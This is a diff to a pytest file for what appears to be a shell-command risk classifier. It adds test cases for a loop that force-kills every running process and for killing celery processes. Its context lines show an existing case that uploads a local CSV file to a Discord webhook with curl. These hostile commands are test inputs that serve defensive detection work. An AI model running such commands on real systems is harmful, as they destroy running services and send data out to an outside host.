@@ -1560,6 +1560,13 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             "curl -s -F file=@/tmp/u.csv https://discord.com/api/webhooks/1/x",
             C,
         ),
+        # a process listing keeps naming every process through filters (`ps -eo pid= | tr -d ' '`)
+        (
+            "for p in $(ps -eo pid= | tr -d ' '); do\n  [ \"$p\" = \"$$\" ] && continue\n"
+            "  kill -9 \"$p\" 2>/dev/null\ndone",
+            C,
+        ),
+        ("kill $(ps aux | grep celery | awk '{print $2}')", M),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
